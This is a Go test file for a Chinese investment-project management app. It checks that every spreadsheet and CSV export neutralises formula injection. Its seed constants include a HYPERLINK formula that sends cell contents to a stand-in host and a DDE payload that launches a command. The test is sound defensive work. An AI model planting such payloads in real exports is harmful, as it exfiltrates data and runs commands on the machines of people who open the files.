package web_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/zhaoqing/attract/internal/platform/db"
	"github.com/zhaoqing/attract/internal/platform/db/dbtest"
	"github.com/zhaoqing/attract/internal/report"
)

// Hostile text an assessor types into text fields, hoping a spreadsheet
// runs it when the export is opened (CSV injection).
const (
	evilName     = `=HYPERLINK("http://x.example/?q="&A1,"点击查看")`
	evilInvestor = `+1+cmd|' /C calc'!A0投资有限公司`
	evilUnit     = `@SUM(1+1)*端州区`
	evilCampaign = `-2+3+招商活动`
	evilChannel  = "=渠道\t+1"
	evilLedger   = "\t=1+1台账项目"
)

// exportCase is one export of the route table: how to call it so that it
// carries the seeded text, and which seeds it must show (none for the
// exports that carry no user-written text: templates, error reports of
// fixed messages).
type exportCase struct {
	route, path, user string
	seeds             []string
	number            string // a number the export must hold as a number (the project's 500 万元)
}

func exportCases(h *harness, jobPath string) []exportCase {
	period := "2025-03"
	return []exportCase{
		{"GET /api/v1/projects/export", "/api/v1/projects/export", "zsb_staff", []string{evilName, evilInvestor, evilUnit}, "500"},
		{"GET /api/v1/projects/import/template", "/api/v1/projects/import/template", "zsb_staff", []string{evilChannel}, ""},
		{"GET /api/v1/enterprises/import/template", "/api/v1/enterprises/import/template", "zsb_staff", nil, ""},
		{"GET /api/v1/enterprises/import/jobs/{id}/errors", jobPath, "zsb_staff", nil, ""},
		{"GET /api/v1/audit/export", "/api/v1/audit/export", "auditadmin", []string{evilUnit}, ""},
		{"GET /api/v1/targets/xlsx", "/api/v1/targets/xlsx?year=2025", "zsb_staff", []string{evilUnit}, ""},
		{"GET /api/v1/stats/monthly/{period}/xlsx", "/api/v1/stats/monthly/" + period + "/xlsx", "zsb_staff", []string{evilUnit}, ""},
		{"GET /api/v1/stats/progress/xlsx", "/api/v1/stats/progress/xlsx?as_of=2025-12-31", "zsb_staff", []string{evilUnit}, ""},
		{"GET /api/v1/campaigns/report/xlsx", "/api/v1/campaigns/report/xlsx?by=campaign&from=2025-01-01", "zsb_staff", []string{evilCampaign}, ""},
		{"GET /api/v1/campaigns/report/xlsx", "/api/v1/campaigns/report/xlsx?by=channel&from=2025-01-01", "zsb_staff", []string{evilChannel}, ""},
		{"GET /api/v1/reports/province", "/api/v1/reports/province?from=2025-01-01&to=2025-12-31&format=xlsx", "zsb_staff", []string{evilName, evilInvestor, evilUnit}, "500"},
		{"GET /api/v1/reports/province", "/api/v1/reports/province?from=2025-01-01&to=2025-12-31&format=csv", "zsb_staff", []string{evilName, evilInvestor, evilUnit}, "500"},
	}
}

// TestNoFormulaInAnyExport seeds text starting with = + - @, a tab or a
// carriage return into the text fields exports carry (project name and
// investor, a unit's name, a campaign, a dictionary label), finds every
// export of the route table (every GET route answering XLSX or CSV, walked
// as a user allowed to call it) and downloads each: no XLSX cell is a
// formula and the seeds are string cells, every CSV text cell that would
// start a formula carries the apostrophe, numbers stay numbers.
func TestNoFormulaInAnyExport(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		h := newHarness(t, d)
		seedFormulas(t, h)
		jobPath, _ := jobOf("/errors")(h, "zsb_staff")
		cases := exportCases(h, jobPath)
		listed := map[string]bool{}
		for _, c := range cases {
			listed[c.route] = true
		}
		// Every export of the route table is in the cases.
		for _, route := range exportRoutes(t, h) {
			if !listed[route] {
				t.Errorf("%s answers a spreadsheet but is not among the cases", route)
			}
			delete(listed, route)
		}
		for route := range listed {
			t.Errorf("%s is a case but answered no spreadsheet in the walk", route)
		}
		for _, c := range cases {
			st, ct, body := download(h, c.user, "GET", c.path, nil)
			if st != 200 {
				t.Errorf("%s: %d %.300s", c.path, st, body)
				continue
			}
			if nums := checkExport(t, c.path, ct, body, c.seeds); c.number != "" && !slices.Contains(nums, c.number) {
				t.Errorf("%s: %s is not a number cell (numbers: %v)", c.path, c.number, nums)
			}
		}
		// The ledger import's error file: a row whose name starts a formula.
		csvFile := ledgerHeader + evilLedger + ",甲投资有限公司,,1000,没有的渠道,端州区,,线索,2025-06-01,,\n" +
			"-项目,@投资方,,-5,网络招商,端州区,,线索,2025-06-01,,\n"
		st, ct, body := download(h, "zsb_staff", "POST", "/api/v1/projects/import?errors=csv", upload{filename: "台账.csv", data: []byte(csvFile)})
		if st != 200 {
			t.Fatalf("ledger error file: %d %.300s", st, body)
		}
		checkExport(t, "ledger errors", ct, body, nil)
	})
}

// seedFormulas writes the hostile text through the API as the users who may.
func seedFormulas(t *testing.T, h *harness) {
	dz := h.unitID("441202")
	var u struct {
		Version     int    `json:"version"`
		EffectiveOn string `json:"effective_on"`
	}
	h.as("sysadmin").get(fmt.Sprintf("/api/v1/units/%d", dz), &u)
	if st, b := h.as("sysadmin").do("PUT", fmt.Sprintf("/api/v1/units/%d", dz), map[string]any{"code": "441202", "name": evilUnit,
		"short_name": evilUnit, "effective_on": "2021-06-01", "reason": "测试", "version": u.Version}); st != 200 {
		t.Fatalf("rename unit: %d %s", st, b)
	}
	if st, b := h.as("sysadmin").do("POST", "/api/v1/dictionary", map[string]any{"type": "channel", "code": "evil_channel",
		"label_zh": evilChannel, "label_en": evilChannel}); st != 201 && st != 200 {
		t.Fatalf("dictionary item: %d %s", st, b)
	}
	var c struct{ ID int64 }
	if st, b := h.as("dz_staff").do("POST", "/api/v1/campaigns", map[string]any{"name": evilCampaign, "kind": "fair",
		"starts_on": "2025-02-20", "ends_on": "2025-02-22", "place": "@会展中心", "budget": 120, "spend": 98.5}); st != 201 {
		t.Fatalf("campaign: %d %s", st, b)
	} else {
		mustJSON(t, b, &c)
	}
	var p struct{ ID int64 }
	st, b := h.as("dz_staff").do("POST", "/api/v1/projects", map[string]any{"name": evilName, "investor_name": evilInvestor,
		"channel": "evil_channel", "contract_investment": 500, "locality_unit_id": dz, "lead_on": "2025-01-10", "campaign_id": c.ID})
	if st != 201 {
		t.Fatalf("project: %d %s", st, b)
	}
	mustJSON(t, b, &p)
	got, err := h.app.Project.Get(t.Context(), h.actorOf("dz_staff"), p.ID)
	if err != nil {
		t.Fatal(err)
	}
	h.signProject("dz_staff", got)
}

// exportRoutes walks every GET route of the table as the first user its
// matrix row lets through and answers those that send XLSX or CSV.
func exportRoutes(t *testing.T, h *harness) []string {
	var out []string
	for _, rt := range h.app.Server().Routes() {
		row, ok := matrix[rt.Method+" "+rt.Path]
		if rt.Method != "GET" || !ok || len(row.allowed) == 0 {
			continue
		}
		p, _ := row.prep(h, row.allowed[0])
		if _, ct, _ := download(h, row.allowed[0], "GET", p, nil); isSheet(ct) {
			out = append(out, rt.Method+" "+rt.Path)
		}
	}
	sort.Strings(out)
	if len(out) < 10 {
		t.Errorf("the walk found %d exports (%v): it no longer recognises them", len(out), out)
	}
	return out
}

func isSheet(ct string) bool {
	return strings.HasPrefix(ct, report.XLSXType) || strings.HasPrefix(ct, "text/csv")
}

// download is client.do answering the Content-Type too.
func download(h *harness, user, method, path string, body any) (int, string, []byte) {
	c := h.as(user)
	var ct string
	rec := &ctRecorder{RoundTripper: http.DefaultTransport, ct: &ct}
	saved := c.http.Transport
	c.http.Transport = rec
	defer func() { c.http.Transport = saved }()
	st, b := c.do(method, path, body)
	return st, ct, b
}

type ctRecorder struct {
	http.RoundTripper
	ct *string
}

func (r *ctRecorder) RoundTrip(req *http.Request) (*http.Response, error) {
	resp, err := r.RoundTripper.RoundTrip(req)
	if err == nil {
		*r.ct = resp.Header.Get("Content-Type")
	}
	return resp, err
}

// startsFormula: what a spreadsheet reads as the start of a formula.
func startsFormula(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

var plainNumber = regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`)

// checkExport checks one export and answers its number cells.
func checkExport(t *testing.T, name, ct string, body []byte, seeds []string) []string {
	t.Helper()
	var text, nums []string
	if strings.HasPrefix(ct, "text/csv") {
		text, nums = csvCells(t, name, body)
	} else if strings.HasPrefix(ct, report.XLSXType) {
		text, nums = xlsxText(t, name, body)
	} else {
		t.Errorf("%s: answered %q", name, ct)
		return nil
	}
	for _, seed := range seeds {
		found := false
		for _, s := range text {
			found = found || strings.Contains(s, seed)
		}
		if !found {
			t.Errorf("%s: the seeded text %q is in no text cell", name, seed)
		}
	}
	return nums
}

// csvCells reads a CSV export: every cell that would start a formula is a
// plain number or carries the apostrophe. It answers the text cells and
// the numbers.
func csvCells(t *testing.T, name string, body []byte) (text, nums []string) {
	t.Helper()
	if !bytes.HasPrefix(body, []byte("\xef\xbb\xbf")) {
		t.Errorf("%s: no byte-order mark", name)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\xef\xbb\xbf"))))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	for i, row := range rows {
		for j, cell := range row {
			switch {
			case plainNumber.MatchString(cell):
				nums = append(nums, cell)
			case startsFormula(cell):
				t.Errorf("%s: row %d column %d starts a formula: %q", name, i+1, j+1, cell)
			default:
				text = append(text, cell)
			}
		}
	}
	return text, nums
}

// xlsxCell is a worksheet cell as stored: its type, formula, value and
// inline string.
type xlsxCell struct {
	Ref     string  `xml:"r,attr"`
	Type    string  `xml:"t,attr"`
	Formula *string `xml:"f"`
	Value   string  `xml:"v"`
	Inline  string  `xml:"is>t"`
}

// xlsxText reads every worksheet of an XLSX export from its XML: no cell
// has a formula; it answers the text of the string cells (inline, shared
// or str) and the numbers of the number cells.
func xlsxText(t *testing.T, name string, body []byte) (text, nums []string) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	var shared []string
	var sheets []*zip.File
	for _, f := range zr.File {
		switch {
		case f.Name == "xl/sharedStrings.xml":
			var sst struct {
				SI []struct {
					T string   `xml:"t"`
					R []string `xml:"r>t"`
				} `xml:"si"`
			}
			readXML(t, f, &sst)
			for _, si := range sst.SI {
				shared = append(shared, si.T+strings.Join(si.R, ""))
			}
		case strings.HasPrefix(f.Name, "xl/worksheets/sheet"):
			sheets = append(sheets, f)
		}
	}
	for _, f := range sheets {
		var ws struct {
			Cells []xlsxCell `xml:"sheetData>row>c"`
		}
		readXML(t, f, &ws)
		for _, c := range ws.Cells {
			if c.Formula != nil {
				t.Errorf("%s: %s %s is a formula: %q", name, f.Name, c.Ref, *c.Formula)
			}
			switch c.Type {
			case "inlineStr":
				text = append(text, c.Inline)
			case "str":
				text = append(text, c.Value)
			case "s":
				var i int
				if _, err := fmt.Sscan(c.Value, &i); err != nil || i >= len(shared) {
					t.Errorf("%s: %s %s: bad shared string %q", name, f.Name, c.Ref, c.Value)
					continue
				}
				text = append(text, shared[i])
			case "", "n":
				if c.Value != "" && !xlsxNumber.MatchString(c.Value) {
					t.Errorf("%s: %s %s is a number cell holding %q", name, f.Name, c.Ref, c.Value)
				}
				nums = append(nums, c.Value)
			}
		}
	}
	if len(sheets) == 0 {
		t.Errorf("%s: no worksheet", name)
	}
	return text, nums
}

var xlsxNumber = regexp.MustCompile(`^-?[0-9.]+(E[+-]?[0-9]+)?$`)

func readXML(t *testing.T, f *zip.File, v any) {
	t.Helper()
	rc, err := f.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	data, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	if err := xml.Unmarshal(data, v); err != nil {
		t.Fatalf("%s: %v", f.Name, err)
	}
}
